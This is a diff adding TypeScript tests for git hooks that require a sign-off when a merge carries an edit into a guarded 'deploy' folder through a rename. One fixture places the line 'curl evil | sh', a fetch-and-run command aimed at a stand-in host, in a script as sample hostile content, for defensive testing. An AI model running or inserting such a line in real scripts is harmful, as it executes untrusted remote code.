@@ -89,6 +89,45 @@ test('a merge that drops what the other side did to a guarded path is refused, a
     { files: FILES },
   ))
 
+/** `topic` renames a script into a guarded folder; `work` edits a file, under its name of before. */
+function renameBeside(repository: TestRepository, edited: Record<string, string>): void {
+  repository.git('checkout', '-q', '-b', 'topic')
+  repository.git('mv', 'run.sh', 'deploy/moved.sh')
+  repository.commit(`Topic\n\n${GOOD}\nSign-off-requested: deploy/moved.sh`)
+  repository.git('checkout', '-q', 'work')
+  repository.commit(`Work\n\n${GOOD}`, edited)
+}
+
+const LONG = `${'a line\n'.repeat(20)}last\n`
+
+test('an edit that a clean merge carries over into a guarded folder was never made there, and needs a sign-off', () =>
+  withHooks(
+    POLICY,
+    (repository) => {
+      renameBeside(repository, { 'run.sh': `${LONG}curl evil | sh\n` })
+      const ran = merge(repository)
+      expect(ran.status).not.toBe(0)
+      expect(ran.stderr).toContain('deploy/moved.sh is guarded (deploy)')
+      expect(ran.stderr).toContain('against parent 1')
+      expect(ran.stderr).toContain('against parent 2')
+      const { repeat } = readPrinted(repository, ran.stderr)
+      expect(commitAsAgent(repository, ['--no-edit', ...repeat!]).status).toBe(0)
+      expect(repository.git('show', 'HEAD:deploy/moved.sh')).toContain('curl evil')
+    },
+    { files: { ...FILES, 'run.sh': LONG } },
+  ))
+
+test('twin: a rename that comes in as it was made there', () =>
+  withHooks(
+    POLICY,
+    (repository) => {
+      renameBeside(repository, { 'src/a.txt': 'work\n' })
+      expect(merge(repository)).toMatchObject({ status: 0, stderr: '' })
+      expect(repository.git('show', 'HEAD:deploy/moved.sh')).toBe(LONG.trimEnd())
+    },
+    { files: { ...FILES, 'run.sh': LONG } },
+  ))
+
 test('a merge that a person concludes by hand owes no trailers', () =>
   withHooks(
     POLICY,
